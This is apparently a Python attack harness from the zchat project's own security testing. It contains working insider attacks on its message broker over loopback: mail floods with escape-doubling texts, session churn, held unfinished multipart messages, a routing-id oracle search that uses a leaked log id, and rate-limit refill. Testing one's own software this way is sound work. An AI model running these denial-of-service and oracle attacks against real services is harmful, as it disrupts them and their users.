"""Issue 18's insiders: registered users who attack the broker with their own budget (findings 1 to 5).

Each is the body of an attacker process (see `attack.attackers`), logs in with
zchat's own protocol code (`attack.common.Insider`) from its own loopback
address under its own registered name, and stops by itself at `end`.

    mail_self       finding 1: stays online and mails herself, at the message rate, texts that are
                    `max_text_bytes` of backslashes (each JSON escaping doubles them: about 256 KiB stored
                    per message), and never acknowledges a delivery, so nothing she is sent is ever read.
                    The broker evicts her when her unread queue is too long; she logs in again at once.
    mail_away       finding 1: the same texts to a registered user who never logs in (acknowledging her own
                    answers, so every Accepted and Failed is counted).
    session_churn   finding 2: logs in, queues SEND envelopes as fast as it can (each sealed to the broker, so
                    each costs it an RSA open; their content is junk), then logs in again on a new connection
                    (replacing the session), over and over. Old connections stay open a moment so that what
                    they queued reaches the broker.
    held_multipart  finding 3: with a hand-written CurveZMQ client (`attack.rawcurve`: libzmq only sends complete
                    messages), keeps up to HELD_CONNECTIONS connections from two addresses, each sending one
                    complete message and then a multipart message that never ends, 64 KiB frames with MORE
                    set, as fast as the broker reads them; a connection the broker closes is opened again.
    routing_search  finding 4: from half-way through the run (so that an abort it causes leaves the first half's
                    figures), claims routing ids of libzmq's form (0x00 + a 32-bit counter) to find the top
                    of the range the broker serves: an exponential search up from an id inside it, then a
                    binary search, again and again as the counter moves, one claim at a time. A claim is
                    "served" (the broker answered its HELLO, or kept the connection), "closed" (closed after
                    the handshake) or "refused" (no handshake: a lockout). The search stops when the top is
                    one of two ids and never claims the one just above a served id on purpose (that may be
                    the id libzmq gives next, which aborts a broker that does not close the oracle; a moving
                    counter can still bring it there). At three quarters of the run it does claim the three
                    ids just above the top it has found by then: the broker must stay up.
    rate_refill     finding 5: logs in, sends 40 messages (to herself) as fast as it can, waits for their
                    answers, logs in again: the accepted rate against `messages_per_second_per_user`.

The id inside the range that the search starts from: a searcher needs one.
Today's broker writes whole routing ids in its log (10 hex digits are all 5
bytes of libzmq's form), so `find_leaked_id`, before the go, connects once as
the insider, sends a malformed frame and reads the id from the broker's log
line about it; that stands in for any leak. Without it the search starts
from a random id, and every claim is closed or refused.
"""

from __future__ import annotations

import collections
import dataclasses
import os
import re
import secrets
import time

import zmq

from attack.common import (
    IDLE,
    LOGIN_TIMEOUT,
    AttackSpec,
    Insider,
    Pacer,
    Stats,
    broker_keys,
    count,
    endpoint,
    insider_key,
    queue,
)
from attack.zmtp import generated_form
from zchat import crypto
from zchat import protocol as p
from zchat.client.session import ClientSession
from zchat.client.transport import connect_dealer
from zchat.events import Accepted, Failed

RETRY = 0.2  # seconds after a failed login
MAIL_PREFIX_BYTES = 32  # room for a unique prefix in a near-full text

CHURN_SENDS_PER_SESSION = 2000  # more than the broker's 1000-frame / 8 MiB allowance for one session
CHURN_JUNK_ENVELOPES = 16
CHURN_HOLD = 1.0  # seconds an old connection stays open, so that what it queued reaches the broker
CHURN_LOGIN_TIMEOUT = 5.0

SEARCH_CLAIM_RATE = 4.0  # claims per second at most (one at a time)
SEARCH_CLAIM_WAIT = 1.5  # seconds a claim may take to be answered, closed or refused
SEARCH_MAX_CLAIMS = 200
SEARCH_START = 0.5  # of the duration: when the search starts (an abort it causes leaves the first half's figures)
SEARCH_FINAL_AT = 0.75  # of the duration: when it claims the ids just above the top
SEARCH_FINAL_CLAIMS = 3
LEAK_TIMEOUT = 10.0
COUNTER = 1 << 32

HELD_CONNECTIONS = 16  # twice the broker's max_connections_per_user
HELD_FRAME = 64 * 1024
HELD_CONNECT_RETRY = 0.1  # seconds after a handshake the broker turned away

REFILL_BATCH = 40  # messages per session
REFILL_LOGIN_RATE = 5.0  # sessions per second at most (at scale 1 the broker's own login limit binds first)
REFILL_ANSWER_TIMEOUT = 10.0  # a new login before the answers came would lose them


# ------------------------------------------------------------ finding 1: mail that is never read


def near_full_text(serial: int, max_text_bytes: int) -> str:
    """A text of nearly `max_text_bytes` that each JSON escaping doubles: backslashes after a unique prefix."""
    prefix = f"flood {serial} "
    return prefix + "\\" * max(1, max_text_bytes - len(prefix))


def _mail_flood(spec: AttackSpec, end: float, to: str, ack: bool) -> Stats:
    stats: Stats = {"mail_sent": 0, "mail_bytes": 0, "accepted_seen": 0, "refused_seen": 0, "logins": 0}
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    insider = Insider(spec, context, stats, ack=ack)
    pacer = Pacer(spec.messages_per_second * spec.scale, time.monotonic())
    serial = 0
    try:
        while (now := time.monotonic()) < end:
            if not insider.online or insider.silent_too_long(now):
                if not insider.login(min(end, now + LOGIN_TIMEOUT)):
                    time.sleep(RETRY)
                continue
            insider.pump(now)
            if not insider.online:  # the broker ended the session (evicted, too slow): log in again
                continue
            if pacer.due(now):
                serial += 1
                frames = insider.session.say(near_full_text(serial, spec.max_text_bytes), to=to)
                if insider.send(frames):
                    stats["mail_sent"] += 1
                    stats["mail_bytes"] += len(frames[-1])
                else:
                    count(stats, "mail_not_queued")
            time.sleep(max(IDLE, min(pacer.next, end) - time.monotonic()))
    finally:
        insider.close()
        context.term()
    return stats


def mail_self(spec: AttackSpec, end: float) -> Stats:
    """Finding 1: online, mailing herself, never acknowledging (her window stays full of her own mail)."""
    return _mail_flood(spec, end, spec.insider, ack=False)


def mail_away(spec: AttackSpec, end: float) -> Stats:
    """Finding 1: mailing a registered user who is away."""
    return _mail_flood(spec, end, spec.recipient, ack=True)


# ------------------------------------------------------------ finding 2: SENDs that outlive their session


def session_churn(spec: AttackSpec, end: float) -> Stats:
    stats: Stats = {"logins": 0, "sends_queued": 0, "sends_not_queued": 0, "send_bytes": 0}
    broker = broker_keys(spec)
    junk = [
        p.encode_frames(p.SEND, crypto.seal(broker.rsa, os.urandom(64), p.context(p.SEND)))
        for _ in range(CHURN_JUNK_ENVELOPES)
    ]
    per_session = max(1, int(CHURN_SENDS_PER_SESSION * spec.scale))
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    insider = Insider(spec, context, stats, send_queue=per_session + 100)
    held: collections.deque[tuple[zmq.Socket[bytes], float]] = collections.deque()
    sent = 0
    try:
        while (now := time.monotonic()) < end:
            while held and now - held[0][1] > CHURN_HOLD:
                held.popleft()[0].close(linger=0)
            if insider.sock is not None:  # the last session: keep its connection a moment, then a new one
                held.append((insider.sock, now))
                insider.sock = None
            if not insider.login(min(end, now + CHURN_LOGIN_TIMEOUT)):
                time.sleep(0.05)
                continue
            if insider.sock is None:
                continue
            for _ in range(per_session):
                frames = junk[sent % len(junk)]
                sent += 1
                if queue(insider.sock, frames):
                    stats["sends_queued"] += 1
                    stats["send_bytes"] += len(frames[-1])
                else:
                    stats["sends_not_queued"] += 1
                    break
            if spec.scale < 1:  # the small run: a tenth of the logins as well
                time.sleep(min(max(0.0, end - time.monotonic()), 0.2 / spec.scale))
    finally:
        for sock, _ in held:
            sock.close(linger=0)
        insider.close()
        context.term()
    return stats


# ------------------------------------------------------------ finding 3: unfinished messages on many connections


def held_multipart(spec: AttackSpec, end: float) -> Stats:
    from attack.rawcurve import HandshakeFailed, RawCurveClient  # PyNaCl: a development dependency

    stats: Stats = {"connections": 0, "handshakes_refused": 0, "closed_by_broker": 0, "unfinished_bytes": 0}
    key = insider_key(spec)
    secret = crypto.curve_secret(key)
    public = crypto.curve_public(secret)
    server = broker_keys(spec).curve
    if server is None:
        raise RuntimeError("the broker's .pub has no Curve key")
    wanted = max(2, int(HELD_CONNECTIONS * min(1.0, spec.scale * 4)))
    held: list[RawCurveClient] = []
    serial = 0
    try:
        while time.monotonic() < end:
            while len(held) < wanted and time.monotonic() < end:
                source = spec.sources[serial % len(spec.sources)]
                serial += 1
                try:
                    client = RawCurveClient("127.0.0.1", spec.port, server, public, secret, source=source)
                    client.handshake(timeout=2.0)
                    client.send_message(p.encode_frames(p.PING))  # it speaks once: tied to its user
                except (HandshakeFailed, OSError):
                    count(stats, "handshakes_refused")
                    time.sleep(HELD_CONNECT_RETRY)
                    continue
                count(stats, "connections")
                held.append(client)
            for client in list(held):
                try:
                    client.send_raw(client.frame_bytes(bytes(HELD_FRAME), more=True))
                    count(stats, "unfinished_bytes", HELD_FRAME)
                except OSError:  # closed by the broker: its unfinished message is gone with it
                    count(stats, "closed_by_broker")
                    client.close()
                    held.remove(client)
    finally:
        for client in held:
            client.close()
    return stats


# ------------------------------------------------------------ finding 4: the routing-id oracle


LEAKED_ID = re.compile(r"from (00[0-9a-f]{8}) \((?P<source>[0-9.]+)\)")


def find_leaked_id(spec: AttackSpec) -> AttackSpec:
    """Before the go: one connection as the insider that claims nothing, a malformed frame, and the routing id
    libzmq gave it read from the broker's log line about that frame (the spec with `counters` set to it)."""
    if spec.broker_log is None:
        return spec
    key = insider_key(spec)
    broker = broker_keys(spec)
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    sock = connect_dealer(context, endpoint(spec.sources[0], spec.port), key, broker.curve or b"")
    found: int | None = None
    try:
        sock.send_multipart([b"x"])
        deadline = time.monotonic() + LEAK_TIMEOUT
        while found is None and time.monotonic() < deadline:
            text = spec.broker_log.read_bytes().decode("utf-8", errors="replace")
            for match in LEAKED_ID.finditer(text):
                if match.group("source") == spec.sources[0]:
                    found = int(match.group(1), 16)
                    break
            else:
                time.sleep(0.1)
    finally:
        sock.close(linger=0)
        context.term()
    return spec if found is None else dataclasses.replace(spec, counters=(found,))


_MONITORED = (
    zmq.EVENT_HANDSHAKE_SUCCEEDED
    | zmq.EVENT_HANDSHAKE_FAILED_AUTH
    | zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL
    | zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL
    | zmq.EVENT_DISCONNECTED
)


class Claimant:
    """One claim at a time: a CURVE DEALER as the insider announcing a routing id, and what became of it."""

    def __init__(self, spec: AttackSpec, context: zmq.Context[zmq.Socket[bytes]]) -> None:
        self.spec = spec
        self.context = context
        self.key = insider_key(spec)
        self.broker = broker_keys(spec)
        self.secret = crypto.curve_secret(self.key)

    def claim(self, counter: int) -> str:
        """'served', 'closed' (after the handshake), 'refused' (no handshake: locked out) or 'unanswered'."""
        sock = self.context.socket(zmq.DEALER)
        sock.setsockopt(zmq.LINGER, 0)
        sock.setsockopt(zmq.RECONNECT_IVL, -1)  # one connection per claim: never again with the same id
        sock.setsockopt(zmq.ROUTING_ID, generated_form(counter % COUNTER))
        sock.setsockopt(zmq.CURVE_SECRETKEY, self.secret)
        sock.setsockopt(zmq.CURVE_PUBLICKEY, crypto.curve_public(self.secret))
        sock.setsockopt(zmq.CURVE_SERVERKEY, self.broker.curve or b"")
        monitor = sock.get_monitor_socket(_MONITORED)
        try:
            sock.connect(endpoint(self.spec.sources[0], self.spec.port))
            sock.send_multipart(ClientSession(self.spec.insider, self.key, self.broker.rsa, bot=True).hello())
            return self._outcome(sock, monitor, time.monotonic() + SEARCH_CLAIM_WAIT)
        finally:
            sock.disable_monitor()
            monitor.close(linger=0)
            sock.close(linger=0)

    @staticmethod
    def _outcome(sock: zmq.Socket[bytes], monitor: zmq.Socket[bytes], deadline: float) -> str:
        poller = zmq.Poller()
        poller.register(sock, zmq.POLLIN)
        poller.register(monitor, zmq.POLLIN)
        secured = False
        while (left := deadline - time.monotonic()) > 0:
            ready = dict(poller.poll(max(1, int(left * 1000))))
            if sock in ready:
                return "served"  # the broker answered its HELLO (a CHALLENGE, or BUSY)
            if monitor in ready:
                message = monitor.recv_multipart()
                event = int.from_bytes(message[0][:2], "little")
                if event == zmq.EVENT_HANDSHAKE_SUCCEEDED:
                    secured = True
                elif event == zmq.EVENT_DISCONNECTED:
                    return "closed" if secured else "refused"
                else:
                    return "refused"  # a failed handshake: the broker would not let the user in
        return "served" if secured else "unanswered"  # still connected after the handshake: it was not closed


class CounterSearch:
    """Where libzmq's routing-id counter stands, learnt from claims (pure: no sockets).

    `lo` is an id the counter has reached (one inside the range, then the highest served claim); `hi`, once a
    claim above the counter was closed, an id it had not reached. Searching up from `lo` by doubling steps
    until a claim is closed, then halving [lo, hi], until the top is `lo` or `lo + 1`; then again from `lo`,
    as the counter moves on. It never claims `lo + 1`, which may be the id libzmq gives next. A closed claim
    moves the counter by one: to check it, the broker read its counter with a probe connection, which took
    the next id (so `lo` moves with it).
    """

    def __init__(self, leaked: int) -> None:
        self.leaked = leaked
        self.lo = leaked
        self.hi: int | None = None
        self.step = 2
        self.searches = 0

    def next_claim(self) -> int:
        if self.hi is None:
            return self.lo + self.step
        return max(self.lo + 2, (self.lo + self.hi) // 2)

    def record(self, claimed: int, outcome: str) -> bool:
        """What became of a claim ('served', 'closed', or anything else: nothing learnt). True when a search
        ended: `lo` is the top, or one below it."""
        if outcome == "served":
            self.lo = max(self.lo, claimed)
            if self.hi is None:
                self.step *= 2
        elif outcome == "closed":
            self.lo += 1
            self.hi = claimed if self.hi is None else min(self.hi, claimed)
        if self.hi is None or self.hi - self.lo > 2:
            return False
        self.searches += 1
        self.hi, self.step = None, 2
        return True


def routing_search(spec: AttackSpec, end: float) -> Stats:
    stats: Stats = {
        "leaked_id_known": 1 if spec.counters else 0,
        "claims": 0,
        "served": 0,
        "closed": 0,
        "lockouts": 0,
        "unanswered": 0,
        "searches_done": 0,
        "top_minus_leaked": 0,
        "final_claims": 0,
        "final_served": 0,
        "final_closed": 0,
        "final_refused": 0,
        "final_unanswered": 0,
    }
    began = time.monotonic()
    start = min(end, began + SEARCH_START * spec.duration)
    time.sleep(max(0.0, start - began))
    search = CounterSearch(spec.counters[0] if spec.counters else secrets.randbits(32))
    final_at = began + SEARCH_FINAL_AT * spec.duration
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    claimant = Claimant(spec, context)
    pacer = Pacer(SEARCH_CLAIM_RATE * spec.scale, start)
    finals: list[int] = []
    final_done = False
    try:
        while (now := time.monotonic()) < end and stats["claims"] < SEARCH_MAX_CLAIMS:
            if not pacer.due(now):
                time.sleep(max(IDLE, min(pacer.next, end) - now))
                continue
            target = finals[0] if finals else search.next_claim()
            outcome = claimant.claim(target)
            stats["claims"] += 1
            stats[{"refused": "lockouts"}.get(outcome, outcome)] += 1
            if finals:
                finals.pop(0)
                stats["final_claims"] += 1
                stats[f"final_{outcome}"] += 1
                continue
            if search.record(target, outcome):
                stats["searches_done"] = search.searches
                stats["top_minus_leaked"] = (search.lo - search.leaked) % COUNTER
            if time.monotonic() >= final_at and not final_done:  # the top found so far, and the ids above it
                finals = [search.lo + k for k in range(1, SEARCH_FINAL_CLAIMS + 1)]
                final_done = True
    finally:
        context.term()
    return stats


# ------------------------------------------------------------ finding 5: the rate that refills at each login


def rate_refill(spec: AttackSpec, end: float) -> Stats:
    stats: Stats = {"logins": 0, "sent": 0, "accepted_seen": 0, "refused_seen": 0, "unanswered": 0}
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    insider = Insider(spec, context, stats)
    sessions = Pacer(REFILL_LOGIN_RATE * spec.scale, time.monotonic())
    started = time.monotonic()
    try:
        while (now := time.monotonic()) < end:
            if not sessions.due(now):
                time.sleep(max(IDLE, min(sessions.next, end) - now))
                continue
            if not insider.login(min(end, now + LOGIN_TIMEOUT)):
                time.sleep(RETRY)
                continue
            waiting = set()
            for _ in range(REFILL_BATCH):
                message_id = p.new_message_id()
                if insider.send(
                    insider.session.say(f"refill {stats['sent']:.0f}", to=spec.insider, message_id=message_id)
                ):
                    stats["sent"] += 1
                    waiting.add(message_id)
            deadline = min(end, time.monotonic() + REFILL_ANSWER_TIMEOUT)
            while waiting and insider.online and (now := time.monotonic()) < deadline:
                for event in insider.pump(now):
                    if isinstance(event, Accepted | Failed):
                        waiting.discard(event.message_id)
                time.sleep(IDLE)
            stats["unanswered"] += len(waiting)
        elapsed = max(1e-9, time.monotonic() - started)
        stats["accepted_per_s"] = round(stats["accepted_seen"] / elapsed, 1)
        stats["limit_per_s"] = spec.messages_per_second
    finally:
        insider.close()
        context.term()
    return stats
